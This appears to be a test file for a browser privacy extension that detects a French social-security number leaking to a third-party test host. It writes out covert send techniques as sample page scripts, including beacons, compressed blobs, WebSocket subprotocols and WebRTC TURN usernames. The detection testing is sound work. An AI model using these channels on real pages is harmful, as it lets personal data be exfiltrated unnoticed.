/** What browsers show to no extension, or in part: the page's own code tells it, and the servers' log agrees. */
import {afterAll, afterEach, beforeAll, describe, expect, it} from 'vitest';
import type {Channel, Report} from '../../src/core/model.ts';
import {type Browser, openBrowser} from '../rig/browser.ts';
import type {Page} from '../rig/page.ts';
import type {Servers} from '../rig/servers.ts';
import {startTurn, type Turn} from '../rig/turn.ts';
import {browsers, extensionOf, NIR, startSite} from './site.ts';
import {expectValid} from './valid.ts';

const to = 'https://suivi.test/c';
const post = (body: string): string => `fetch('${to}', {method: 'POST', body: ${body}})`;
const blob = `new Blob(['nir=${NIR}'])`;
const formWith = (file: string): string =>
  `(() => { const data = new FormData(); data.append('a', '1'); data.append('piece', ${file}); return data; })()`;
const file = `new File(['nom;nir\\nDurand;${NIR}\\n'], 'liste.csv', {type: 'text/csv'})`;
const socket = (address: string, act: string): string =>
  `new Promise((done) => { const s = new WebSocket('${address}'); s.onopen = () => { ${act}; }; s.onmessage = () => done(1); })`;
const live = 'wss://suivi.test/direct';

const hidden: readonly (readonly [what: string, act: string, channel: Channel])[] = [
  ['a Blob', post(blob), 'fetch'],
  [
    'a Blob by XMLHttpRequest',
    `new Promise((done) => { const x = new XMLHttpRequest(); x.open('POST', '${to}'); x.onloadend = () => done(1); x.send(${blob}); })`,
    'fetch',
  ],
  ['a File', post(file), 'fetch'],
  ['a file in a form', post(formWith(file)), 'fetch'],
  [
    'a JSON file in a form',
    post(formWith(`new File(['{"nir":"${NIR}"}'], 'dossier.json', {type: 'application/json'})`)),
    'fetch',
  ],
  ['a Request', `fetch(new Request('${to}', {method: 'POST', body: 'nir=${NIR}'}))`, 'fetch'],
  [
    'the clone of a Request',
    `fetch(new Request('${to}', {method: 'POST', body: 'nir=${NIR}'}).clone())`,
    'fetch',
  ],
  [
    'a Request that was cloned',
    `(() => { const r = new Request('${to}', {method: 'POST', body: 'nir=${NIR}'}); r.clone(); return fetch(r); })()`,
    'fetch',
  ],
  [
    'a Request made of another',
    `fetch(new Request(new Request('${to}', {method: 'POST', body: 'nir=${NIR}'})))`,
    'fetch',
  ],
  ['a Blob as a beacon', `navigator.sendBeacon('${to}', ${blob})`, 'beacon'],
  ['a form with a file as a beacon', `navigator.sendBeacon('${to}', ${formWith(file)})`, 'beacon'],
  [
    'a compressed Blob',
    `new Response(new Blob(['nir=${NIR}']).stream().pipeThrough(new CompressionStream('gzip'))).blob().then((b) => ${post('b')})`,
    'fetch',
  ],
  ['a message of a web socket', socket(live, `s.send('{"nir":"${NIR}"}')`), 'websocket'],
  ['a message of bytes', socket(live, `s.send(new TextEncoder().encode('nir=${NIR}'))`), 'websocket'],
  ['a message that is a Blob', socket(live, `s.send(${blob})`), 'websocket'],
];

/** A subprotocol is a token: it has no separators. */
const asked = `new WebSocket('${live}', ['v1', '${NIR}'])`;

describe.each(browsers)('in %s', (name) => {
  let servers: Servers;
  let browser: Browser;
  let page: Page;
  let turn: Turn;

  beforeAll(async () => {
    turn = await startTurn();
    servers = await startSite({
      '/vide': '<p>Rien</p>',
      '/fichier':
        '<form id="f" method="post" enctype="multipart/form-data" action="https://suivi.test/recoit"><input id="piece" type="file" name="piece"></form>',
    });
    browser = await openBrowser(name, {
      extensionDir: extensionOf(name),
      servers,
      language: 'fr',
      // Browsers join two ends of a data channel on one machine only when told to.
      preferences: {'media.peerconnection.ice.loopback': true},
      switches: ['--allow-loopback-in-peer-connection', '--disable-features=WebRtcHideLocalIpsWithMdns'],
    });
  });
  afterAll(async () => {
    await browser?.close();
    await servers?.close();
    turn?.close();
  });
  afterEach(() => page.close());

  const told = (report: Report) =>
    report.findings.filter(({rule, category}) => rule === 'third-party' && category === 'nir');

  it.each(hidden)('tells of %s', async (_, act, channel) => {
    page = await browser.page('https://portail.test/vide');
    servers.log.clear();
    await page.evaluate(`() => { void ${act}; }`);
    await servers.log.arrived(
      ({host, method, kind, complete}) =>
        host === 'suivi.test' &&
        method !== 'OPTIONS' &&
        complete &&
        (kind === 'websocket-message') === (channel === 'websocket'),
    );
    const report = await browser.reportWhen(page, 'the send', (one) =>
      told(one).some(({status}) => status === 'observed'),
    );
    expect(told(report)).toMatchObject([
      {status: 'observed', channels: [channel], count: 1, destination: 'suivi.test'},
    ]);
    expect(report.traffic.unreadable).toBe(0);
    expectValid(report);
    expect(JSON.stringify(report)).not.toContain(NIR);
  });

  it.each([
    [
      'a socket that is not open yet',
      `() => { const s = new WebSocket('${live}'); try { s.send('nir=${NIR}'); } catch {} }`,
    ],
    [
      'a socket that is closed',
      `() => new Promise((done) => { const s = new WebSocket('${live}'); s.onopen = () => s.close(); s.onclose = () => { s.send('nir=${NIR}'); done(1); }; })`,
    ],
  ])('says nothing of %s', async (_, act) => {
    page = await browser.page('https://portail.test/vide');
    servers.log.clear();
    await page.evaluate(act);
    await servers.log.arrived(({kind}) => kind === 'websocket');
    await page.evaluate(`() => ${post(`'q=1'`)}.then(() => 1)`);
    const report = await browser.reportWhen(page, 'a later request', ({traffic}) => traffic.thirdParty > 0);
    expect(report.findings).toEqual([]);
    expect(servers.log.all.some(({body}) => body.includes(NIR))).toBe(false);
  });

  it.each([
    ['a form that the person sends', 'f.requestSubmit()'],
    ['a form that the page sends', 'f.submit()'],
  ])('tells of a file picked for %s', async (_, send) => {
    page = await browser.page('https://portail.test/fichier');
    servers.log.clear();
    await page.evaluate(`() => {
      const picked = new DataTransfer();
      picked.items.add(${file});
      piece.files = picked.files;
      piece.dispatchEvent(new Event('change', {bubbles: true}));
      // Whoever reads it has begun before: the same file is read in that order.
      return piece.files[0].text().then(() => { ${send}; });
    }`);
    const {body} = await servers.log.arrived(({path, complete}) => path === '/recoit' && complete);
    expect(body.toString()).toContain(NIR);
    const report = await browser.reportWhen(page, 'the send', (one) => told(one).length > 0);
    expect(told(report)).toMatchObject([{channels: ['form'], count: 1, destination: 'suivi.test'}]);
    expect(JSON.stringify(report)).not.toContain(NIR);
  });

  it('tells of a subprotocol that names the person', async () => {
    page = await browser.page('https://portail.test/vide');
    servers.log.clear();
    await page.evaluate(`() => { window.s = ${asked}; }`);
    const {headers} = await servers.log.arrived(({kind}) => kind === 'websocket');
    expect(headers['sec-websocket-protocol']).toContain(NIR);
    const report = await browser.reportWhen(page, 'the socket', (one) => told(one).length > 0);
    const evidence = {channel: 'websocket', where: 'header', name: 'sec-websocket-protocol'};
    expect(told(report)[0]?.evidence).toMatchObject([evidence]);
  });

  it('tells of the messages of a data channel', async () => {
    page = await browser.page('https://portail.test/vide');
    await page.evaluate(`async () => {
      const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
      here.onicecandidate = ({candidate}) => candidate && there.addIceCandidate(candidate);
      there.onicecandidate = ({candidate}) => candidate && here.addIceCandidate(candidate);
      const arrived = new Promise((done) => { there.ondatachannel = ({channel}) => { channel.onmessage = ({data}) => done(data); }; });
      const channel = here.createDataChannel('a');
      channel.onopen = () => channel.send('nir=${NIR}');
      await here.setLocalDescription(await here.createOffer());
      await there.setRemoteDescription(here.localDescription);
      await there.setLocalDescription(await there.createAnswer());
      await here.setRemoteDescription(there.localDescription);
      window.kept = [here, there];
      return arrived;
    }`);
    const report = await browser.reportWhen(page, 'the message', (one) => told(one).length > 0);
    expect(told(report)).toMatchObject([{channels: ['webrtc'], count: 1, severity: 'high'}]);
    expectValid(report);
    expect(JSON.stringify(report)).not.toContain(NIR);
  });

  it('tells of the name given to a server that joins peers', async () => {
    page = await browser.page('https://portail.test/vide');
    // Chromium looks up such hosts elsewhere than the rig can say: there the name arrives by the second address.
    const [host, number] = ['relais.suivi.test', '127.0.0.1'].map(
      (one) => `turn:${one}:${turn.port}?transport=udp`,
    );
    await page.evaluate(`async () => {
      const connection = new RTCPeerConnection({iceServers: [{urls: ['${host}', '${number}'], username: '${NIR}', credential: 'x'}]});
      connection.createDataChannel('a');
      await connection.setLocalDescription(await connection.createOffer());
      window.kept = connection;
    }`);
    expect(await turn.named).toBe(NIR);
    const report = await browser.reportWhen(page, 'the name', (one) => told(one).length > 0);
    expect(told(report)).toMatchObject([{channels: ['webrtc'], count: 1, evidence: [{name: 'username'}]}]);
    expectValid(report);
    expect(JSON.stringify(report)).not.toContain(NIR);
  });

  it('tells in clear what a web socket sends in clear', async () => {
    page = await browser.page('http://portail.test/vide');
    await page.evaluate(`() => { void ${socket('ws://portail.test/direct', `s.send('nir=${NIR}')`)}; }`);
    const report = await browser.reportWhen(page, 'the message', ({findings}) => findings.length > 0);
    expect(report.findings).toMatchObject([
      {rule: 'plain-http', severity: 'critical', channels: ['websocket']},
    ]);
    expect(report.findings[0]?.evidence).toMatchObject([{seenBy: 'page-hook', where: 'body', name: 'nir'}]);
  });
});
